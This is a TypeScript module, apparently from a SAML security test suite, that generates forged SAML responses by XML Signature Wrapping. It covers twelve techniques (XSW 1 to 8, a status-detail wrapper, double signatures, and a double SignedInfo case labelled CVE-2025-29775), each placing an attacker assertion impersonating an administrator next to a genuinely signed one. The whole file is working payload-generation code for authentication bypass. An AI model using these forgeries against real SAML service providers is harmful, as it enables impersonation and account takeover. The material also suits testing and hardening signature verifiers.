import { type Addressed, assertion, response, sign, SIGNATURE, type Signing } from './saml-forgery.js';

const EVIL = { nameId: 'id-of-admin', email: 'admin@corp.example' };

/** A genuine response taken apart, and what a thief wants to be believed in its place. */
interface Parts {
  readonly to: Addressed;
  /** The assertion as the provider signed it, its signature, and the rest. */
  readonly signed: string;
  readonly signature: string;
  readonly bare: string;
  /** The thief's assertion. */
  readonly evil: string;
  /** The thief's own key, which nobody trusts. */
  readonly thief: Signing;
  readonly provider: Signing;
}

type Wrapping = (parts: Parts) => string;

const afterIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const inside = (xml: string, more: string) => xml.replace(/<\/[\w:]+>$/, `${more}$&`);

/**
 * The classic ways to wrap a signed element so that one reader checks it and another believes its neighbour: Somorovsky
 * and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as XSW 1 to 8, and later ones.
 */
export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  'XSW 1: the signed response in the signature of another': ({ to, signed, evil, provider }) => {
    const { signature, bare } = split(sign(response(to, signed), provider));
    return afterIssuer(response(to, evil, '_evil'), inside(signature, bare));
  },
  'XSW 2: the signed response beside its signature in another': ({ to, signed, evil, provider }) => {
    const { signature, bare } = split(sign(response(to, signed), provider));
    return afterIssuer(response(to, evil, '_evil'), bare + signature);
  },
  'XSW 3: another assertion before the signed one': ({ to, signed, evil }) => response(to, evil + signed),
  'XSW 3, turned round: another assertion after it': ({ to, signed, evil }) => response(to, signed + evil),
  'XSW 4: another assertion around it': ({ to, signed, evil }) => response(to, inside(evil, signed)),
  'XSW 5: the signature in another assertion, its own at the end': ({ to, signature, bare, evil }) =>
    response(to, afterIssuer(evil, signature) + bare),
  'XSW 6: the signed one within the signature of another': ({ to, signature, bare, evil }) =>
    response(to, afterIssuer(evil, inside(signature, bare))),
  'XSW 7: another assertion among the extensions': ({ to, signed, evil }) =>
    response(to, `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`),
  'XSW 8: the signed one as an object of the signature of another': ({ to, signature, bare, evil }) =>
    response(to, afterIssuer(evil, inside(signature, `<Object>${bare}</Object>`))),
  'the signed one in the wrapper of the status': ({ to, signed, evil }) =>
    response(to, evil).replace('<samlp:Status>', `<samlp:Status><samlp:StatusDetail>${signed}</samlp:StatusDetail>`),
  'two signatures in one assertion': ({ to, signature, bare, evil, thief }) =>
    response(to, inside(afterIssuer(sign(evil, thief), signature), bare)),
  'two SignedInfo in one signature (CVE-2025-29775)': ({ to, signature, evil, thief }) => {
    const other = split(sign(evil, thief)).signature;
    const [signedInfo] = /<SignedInfo>[\s\S]*?<\/SignedInfo>/.exec(other)!;
    return response(to, afterIssuer(evil, signature.replace('<SignedInfo>', `${signedInfo}<SignedInfo>`)));
  },
};

/** The wrapped documents, with the thief's assertion under an id of its own and under that of the signed one. */
export function wrap(wrapping: Wrapping, to: Addressed, provider: Signing, thief: Signing, sameId: boolean): string {
  const id = `_${crypto.randomUUID()}`;
  const signed = sign(assertion(to, { id }), provider);
  const evil = assertion(to, { ...EVIL, id: sameId ? id : '_evil-assertion' });
  return wrapping({ to, signed, ...split(signed), evil, thief, provider });
}

function split(signed: string) {
  const [signature] = SIGNATURE.exec(signed)!;
  return { signature, bare: signed.replace(signature, '') };
}
